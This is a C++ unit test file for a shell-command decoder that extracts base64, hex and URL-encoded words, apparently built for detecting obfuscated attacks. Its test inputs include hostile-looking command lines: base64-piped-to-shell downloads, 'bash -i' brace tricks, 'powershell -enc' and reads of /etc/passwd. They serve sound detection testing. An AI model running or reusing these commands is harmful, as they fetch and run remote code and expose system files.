// SPDX-License-Identifier: Apache-2.0
#include <algorithm>
#include <random>
#include <string>
#include <string_view>
#include <vector>

#include <doctest/doctest.h>

#include "base/limits.hpp"
#include "base/shell.hpp"
#include "base/text.hpp"

namespace ttp::shell_decode_test {

using namespace ttp::shell;

namespace {

using Texts = std::vector<std::string>;

constexpr EncodingSet all = {Encoding::base64, Encoding::hex, Encoding::url};

Texts decoded(std::string_view text, EncodingSet which = all) {
  Texts result = {"left over"};
  decode_words(text, which, result);
  return result;
}

std::string base64(std::string_view text, bool is_padded = true, bool is_url = false) {
  const std::string_view alphabet =
      is_url ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
             : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string result;
  for (std::size_t i = 0; i < text.size(); i += 3) {
    const std::size_t count = std::min<std::size_t>(3, text.size() - i);
    unsigned bits = 0;
    for (std::size_t j = 0; j < 3; ++j) {
      bits = bits << 8 | (j < count ? static_cast<unsigned char>(text[i + j]) : 0U);
    }
    for (std::size_t j = 0; j < 4; ++j) {
      if (j <= count) {
        result.push_back(alphabet[bits >> (18 - 6 * j) & 63]);
      } else if (is_padded) {
        result.push_back('=');
      }
    }
  }
  return result;
}

std::string hex(std::string_view text, std::string_view prefix) {
  static constexpr std::string_view digits = "0123456789abcdef";
  std::string result;
  for (const char c : text) {
    result.append(prefix);
    result.push_back(digits[static_cast<unsigned char>(c) >> 4]);
    result.push_back(digits[static_cast<unsigned char>(c) & 15]);
  }
  return result;
}

}  // namespace

TEST_CASE("decode: base64 in a pipe, with and without padding") {
  CHECK_EQ(decoded("echo d2dldCBodHRwOi8vZmlsZXMudGVzdC9h | base64 -d | sh"),
           Texts{"wget http://files.test/a"});
  for (const std::string_view text : {"id; uname -a", "id; uname -a;", "id; uname -a;w"}) {
    CHECK_EQ(decoded("echo '" + base64(text) + "'|base64 -d"), Texts{std::string(text)});
    CHECK_EQ(decoded("x=" + base64(text, false)), Texts{std::string(text)});
  }
}

TEST_CASE("decode: base64 in the URL alphabet") {
  const std::string text = "~~~?/?>>>~~~?.?";
  CHECK(base64(text, false, true).find('_') != std::string::npos);
  CHECK_EQ(decoded(base64(text, false, true)), Texts{text});
  CHECK_EQ(decoded(base64(text)), Texts{text});
}

TEST_CASE("decode: base64 as a part of a path, an option or a brace list") {
  const std::string word = base64("cat /etc/passwd ;");
  CHECK_EQ(decoded("curl http://files.test/x/" + word + "/y"), Texts{"cat /etc/passwd ;"});
  CHECK_EQ(decoded("run --payload=" + word), Texts{"cat /etc/passwd ;"});
  CHECK_EQ(decoded("bash -c {echo," + word + "}|{base64,-d}|{bash,-i}"),
           Texts{"cat /etc/passwd ;"});
}

TEST_CASE("decode: base64 of UTF-16 as PowerShell takes it") {
  std::string wide;
  for (const char c : std::string_view("Invoke-WebRequest")) wide.append(1, c).push_back('\0');
  CHECK_EQ(decoded("powershell -enc " + base64(wide)), Texts{"Invoke-WebRequest"});
}

TEST_CASE("decode: words that only look like base64 yield nothing") {
  CHECK_EQ(decoded("cat /usr/share/documentation/examples/configuration"), Texts{});
  CHECK_EQ(decoded("systemctl restart averylongservicenamewithoutmeaning"), Texts{});
  CHECK_EQ(decoded("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDKfakefakefakefakefake"), Texts{});
  CHECK_EQ(decoded("c2hvcnQ="), Texts{});  // 5 bytes: too short to be told from a word
}

TEST_CASE("decode: hex escapes, with the rest of their word") {
  CHECK_EQ(decoded(R"(echo -e '\x77\x67\x65\x74 x')"), Texts{"wget"});
  CHECK_EQ(decoded(R"(echo -ne "\x6b\x61\x6d\x69/tmp/x" > f)"), Texts{"kami/tmp/x"});
  CHECK_EQ(decoded(R"(echo -e "\\x77\\x67\\x65\\x74")"), Texts{"wget"});
  CHECK_EQ(decoded(R"(printf '\167\147\145\164'; echo -e '\0143\0141\0164\0040')"),
           Texts{"wget", "cat "});
  CHECK_EQ(decoded(R"(echo -e '\x77\x67\x65')"), Texts{});               // three are too few
  CHECK_EQ(decoded(R"(echo -ne '\x7f\x45\x01\x01\x00\x02')"), Texts{});  // no text
  CHECK_EQ(decoded(R"(echo '\xzz\x4\x\9\08\777\x41\x42\x43')"), Texts{});
}

TEST_CASE("decode: plain hex digits") {
  CHECK_EQ(decoded("echo 6375726c20687474703a2f2f78 | xxd -r -p"), Texts{"curl http://x"});
  CHECK_EQ(decoded("0x6375726C20687474703A2F2F78"), Texts{"curl http://x"});
  CHECK_EQ(decoded("63686d6f64202b7"), Texts{});                   // odd
  CHECK_EQ(decoded("63686d6f6420"), Texts{});                      // short
  CHECK_EQ(decoded("d41d8cd98f00b204e9800998ecf8427e"), Texts{});  // a hash
  CHECK_EQ(decoded("63686d6f64202b78z"), Texts{});
}

TEST_CASE("decode: URL encoding") {
  CHECK_EQ(decoded("GET /?cmd=cat%20%2Fetc%2fpasswd"), Texts{"/?cmd=cat /etc/passwd"});
  CHECK_EQ(decoded("..%2f..%2fetc"), Texts{"../../etc"});
  CHECK_EQ(decoded("%C3%A9t%C3%A9 100% %zz %4"), Texts{"été"});
  CHECK_EQ(decoded("%00%01%ff%fe"), Texts{});
}

TEST_CASE("decode: only the encodings asked for") {
  const std::string text = base64("id; uname -a") + R"( \x77\x67\x65\x74 )" + "a%20b";
  CHECK_EQ(decoded(text), Texts{"id; uname -a", "wget", "a b"});
  CHECK_EQ(decoded(text, {Encoding::base64}), Texts{"id; uname -a"});
  CHECK_EQ(decoded(text, {Encoding::hex}), Texts{"wget"});
  CHECK_EQ(decoded(text, {Encoding::url}), Texts{"a b"});
  CHECK_EQ(decoded(text, {}), Texts{});
}

TEST_CASE("decode: one encoding inside another, once") {
  const std::string inner = base64("wget http://files.test/b");
  const std::string middle = "echo " + inner + " | base64 -d";
  CHECK_EQ(decoded(base64(middle)), Texts{middle, "wget http://files.test/b"});
  CHECK_EQ(decoded(base64(base64(middle))), Texts{base64(middle), middle});
  CHECK_EQ(decoded(hex(inner, "%")), Texts{inner, "wget http://files.test/b"});
}

TEST_CASE("decode: each text once, and no more than the caps allow") {
  const std::string word = base64("the same text");
  CHECK_EQ(decoded(word + " " + word), Texts{"the same text"});
  std::string many;
  for (int i = 0; i < 100; ++i) many += base64("text number " + std::to_string(i)) + " ";
  CHECK_EQ(decoded(many).size(), limits::decoded_texts);
  const std::string big = base64(std::string(limits::decoded_bytes, 'x')) + " " + word;
  CHECK_EQ(decoded(big, {Encoding::base64}), Texts(1, std::string(limits::decoded_bytes, 'x')));
}

TEST_CASE("decode: whatever goes in, well-formed text comes out") {
  std::mt19937 random(7);
  const auto below = [&](std::size_t limit) {
    return std::uniform_int_distribution<std::size_t>(0, limit - 1)(random);
  };
  Texts out;
  for (int round = 0; round < 5000; ++round) {
    std::string text;
    for (std::size_t i = below(40); i > 0; --i) text.push_back(static_cast<char>(below(256)));
    std::string line;
    switch (below(4)) {
      case 0:
        line = base64(text, below(2) == 0, below(2) == 0);
        break;
      case 1:
        line = hex(text, below(2) == 0 ? "\\x" : "");
        break;
      case 2:
        line = hex(text, "%");
        break;
      default:
        line = text;
        break;
    }
    if (!line.empty() && below(3) == 0) line[below(line.size())] = static_cast<char>(below(256));
    decode_words(line, all, out);
    for (const std::string& each : out) {
      CHECK(!each.empty());
      CHECK(ttp::is_valid_utf8(each));
    }
  }
}

TEST_CASE("decode: where a glance finds nothing, there is nothing") {
  std::mt19937 random(8);
  const auto below = [&](std::size_t limit) {
    return std::uniform_int_distribution<std::size_t>(0, limit - 1)(random);
  };
  constexpr std::string_view bytes = "aZ09+/-_=x%\\\"' ;";
  std::size_t glanced = 0;
  std::size_t found = 0;
  Texts out;
  for (int round = 0; round < 100'000; ++round) {
    std::string text;
    for (std::size_t i = below(30); i > 0; --i) text.push_back(static_cast<char>(32 + below(95)));
    std::string line;
    for (std::size_t i = below(12); i > 0; --i) line += bytes[below(bytes.size())];
    switch (below(6)) {
      case 0: line += base64(text, below(2) == 0, below(2) == 0); break;
      case 1: line += hex(text, below(3) == 0 ? "0x" : ""); break;
      case 2: line += hex(text, below(2) == 0 ? "\\x" : "%"); break;
      case 3: line += (below(2) == 0 ? "0x" : "") + hex(text, ""); break;
      case 4: line += "dir/" + base64(text) + "/x-" + base64(text) + "_y"; break;
      default: line += text; break;
    }
    for (std::size_t i = below(4); i > 0; --i) line += bytes[below(bytes.size())];
    for (std::size_t i = line.empty() ? 0 : below(3); i > 0; --i) {
      line[below(line.size())] = bytes[below(bytes.size())];
    }
    decode_words(line, all, out);
    CAPTURE(line);
    const bool may_have = may_have_encoded_words(line);
    if (!may_have) CHECK(out == Texts{});
    if (may_have) ++glanced;
    if (!out.empty()) ++found;
  }
  CHECK(found > 10'000);
  CHECK(glanced < found + found / 2);
}

TEST_CASE("decode: hostile words take no more time than others of their length") {
  for (const std::string_view piece : {"\\", "\\\\x", "%", "%4", "%41", "A", "/AAAAAAAAAAAAAAAA",
                                       "-", "0x", "\\x41", "\\1", "41"}) {
    std::string line;
    while (line.size() < (1U << 20)) line += piece;
    Texts out;
    decode_words(line, all, out);
    CHECK(out.size() <= limits::decoded_texts);
    if (!may_have_encoded_words(line)) CHECK(out == Texts{});
  }
}

}  // namespace ttp::shell_decode_test
